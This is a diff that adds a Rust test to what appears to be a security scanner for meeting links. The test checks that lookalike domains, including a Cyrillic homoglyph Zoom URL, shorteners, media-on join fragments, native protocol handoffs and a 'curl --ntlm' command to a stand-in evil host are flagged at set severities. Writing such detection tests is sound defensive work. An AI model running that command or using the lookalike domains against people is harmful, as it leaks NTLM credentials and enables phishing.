@@ -91,3 +91,22 @@ fn what_nobody_can_decide_is_low_at_most() {
         assert!(loud.is_empty(), "{} {:?}: {loud:?}", row.id, row.text);
     }
 }
+
+/// Dangers of the meeting rather than of the file system: told, and never louder than they are.
+#[test]
+fn beyond_shares() {
+    let classes = |text: &str| scan(text, Kind::Text, &Knowledge::default()).into_iter().map(|f| (f.class, f.severity)).collect::<Vec<_>>();
+    for (text, class, severity) in [
+        ("join https://zoom-meetings.example/j/1", "lookalike-domain", Severity::Medium),
+        ("https://zооm.us/j/1", "lookalike-domain", Severity::Medium),
+        ("https://meet.jit.si/x#config.startWithVideoMuted=false", "join-media-on", Severity::Low),
+        ("https://bit.ly/3x", "shortener", Severity::Low),
+        ("zoommtg://zoom.us/join?confno=1", "native-handoff", Severity::Low),
+        ("curl --ntlm -u : http://evil.test/", "command", Severity::High),
+    ] {
+        assert_eq!(classes(text), [(class.to_owned(), severity)], "{text}");
+    }
+    for text in ["https://zoom.us/j/1?pwd=x", "search:https://docs.example.com/x", "https://teams.microsoft.com/l/meetup-join/x"] {
+        assert_eq!(classes(text), [], "{text}");
+    }
+}
